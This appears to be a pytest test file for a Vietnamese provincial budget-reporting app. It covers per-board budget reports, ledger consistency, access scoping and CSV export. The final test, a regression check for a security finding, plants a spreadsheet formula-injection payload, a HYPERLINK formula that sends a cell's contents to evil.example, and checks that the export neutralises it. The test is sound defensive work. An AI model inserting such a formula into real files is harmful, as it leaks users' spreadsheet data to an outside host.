"""/reports/budgets and its CSV: figures per board and category, the same across boards, spreadsheet-ready."""

import csv
import io

YEAR = 2026


def setup(client, as_user, allocate):
    allocate("BTC", "stationery", 10_000_000)
    allocate("BTC", "lodging", 4_000_000)
    allocate("BTGDV", "stationery", 6_000_000)
    body = client.post("/expenses", json={"category": "stationery", "amount_vnd": 2_500_000, "beneficiary_staff_id": 22,
                                          "date": f"{YEAR}-03-01", "description": "giấy"},
                       headers=as_user("chuyenvien.btc")).json
    client.post(f"/expenses/{body['id']}/approve", headers=as_user("truongban.btc"))
    client.post(f"/expenses/{body['id']}/pay", json={"paid_amount_vnd": 2_000_000}, headers=as_user("ketoan.vp"))
    client.post("/expenses", json={"category": "stationery", "amount_vnd": 1_000_000, "beneficiary_staff_id": 22,
                                   "date": f"{YEAR}-03-02", "description": "bút"}, headers=as_user("chuyenvien.btc"))


def test_a_board_reads_its_own_report(client, as_user, allocate):
    setup(client, as_user, allocate)
    report = client.get("/reports/budgets", query_string={"fiscal_year": YEAR}, headers=as_user("chuyenvien.btc")).json
    rows = {r["category"]: r for r in report["rows"]}
    assert set(rows) == {"stationery", "lodging"} and {r["unit"] for r in report["rows"]} == {"BTC"}
    assert rows["stationery"] | {"id": 0} == {
        "id": 0, "fiscal_year": YEAR, "unit": "BTC", "unit_name": "Ban Tổ chức Tỉnh ủy", "category": "stationery",
        "allocated_vnd": 10_000_000, "reserved_vnd": 1_000_000, "spent_vnd": 2_000_000, "available_vnd": 7_000_000,
        "used_pct": 30.0, "overrun_vnd": 0, "overrun_count": 0}
    assert report["totals"]["allocated_vnd"] == 14_000_000
    assert client.get("/reports/budgets", query_string={"unit": "BTGDV"}, headers=as_user("chuyenvien.btc")).status_code == 403


def test_the_leadership_reads_every_board(client, as_user, allocate):
    setup(client, as_user, allocate)
    report = client.get("/reports/budgets", query_string={"fiscal_year": YEAR}, headers=as_user("bithu")).json
    assert [u["unit"] for u in report["units"]] == ["BTC", "BTGDV"]
    assert report["totals"] | {"unit": "*"} == {
        "unit": "*", "unit_name": "Tất cả đơn vị", "allocated_vnd": 20_000_000, "reserved_vnd": 1_000_000,
        "spent_vnd": 2_000_000, "available_vnd": 17_000_000, "used_pct": 15.0, "overrun_vnd": 0, "overrun_count": 0}
    # The report's figures are the ledger's sums.
    ledger = client.get("/ledger", query_string={"limit": 200}, headers=as_user("bithu")).json["items"]
    assert sum(e["amount_vnd"] for e in ledger if e["kind"] == "spent") == report["totals"]["spent_vnd"]
    assert sum(e["amount_vnd"] for e in ledger if e["kind"] == "allocated") == report["totals"]["allocated_vnd"]
    assert (sum(e["amount_vnd"] for e in ledger if e["kind"] == "reserved")
            - sum(e["amount_vnd"] for e in ledger if e["kind"] == "released")) == report["totals"]["reserved_vnd"]


def test_the_csv_opens_in_a_spreadsheet_with_vietnamese_names(client, as_user, allocate):
    setup(client, as_user, allocate)
    answer = client.get("/reports/budgets.csv", query_string={"fiscal_year": YEAR}, headers=as_user("ketoan.vp"))
    assert answer.status_code == 200
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="budgets-2026.csv"' in answer.headers["Content-Disposition"]
    raw = answer.data
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    assert b"\r\n" in raw
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0][:4] == ["Năm tài chính", "Mã đơn vị", "Tên đơn vị", "Khoản mục"]
    assert ["2026", "BTGDV", "Ban Tuyên giáo và Dân vận Tỉnh ủy", "stationery", "6000000", "0", "0", "6000000",
            "0.0", "0", "0"] in rows
    assert len(rows) == 4


def test_the_csv_is_board_scoped_too(client, as_user, allocate):
    setup(client, as_user, allocate)
    answer = client.get("/reports/budgets.csv", query_string={"fiscal_year": YEAR}, headers=as_user("chuyenvien.btgdv"))
    rows = list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"), newline="")))
    assert {r[1] for r in rows[1:]} == {"BTGDV"}
    assert client.get("/reports/budgets.csv", query_string={"unit": "BTC"},
                      headers=as_user("chuyenvien.btgdv")).status_code == 403


def test_a_unit_named_like_a_formula_stays_text_in_the_csv(client, as_user, allocate, database):
    # Finding 6: a unit renamed `=HYPERLINK(...)` came out of the CSV as a live formula.
    from sqlalchemy import text

    setup(client, as_user, allocate)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    with database.engine.begin() as conn:
        old = conn.execute(text("SELECT name FROM replica_units WHERE code = 'BTGDV'")).scalar_one()
        conn.execute(text("UPDATE replica_units SET name = :n WHERE code = 'BTGDV'"), {"n": evil})
    try:
        answer = client.get("/reports/budgets.csv", query_string={"fiscal_year": YEAR}, headers=as_user("ketoan.vp"))
    finally:
        with database.engine.begin() as conn:
            conn.execute(text("UPDATE replica_units SET name = :n WHERE code = 'BTGDV'"), {"n": old})
    rows = list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"), newline="")))
    names = [row[2] for row in rows[1:] if row[1] == "BTGDV"]
    assert names == ["'" + evil]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
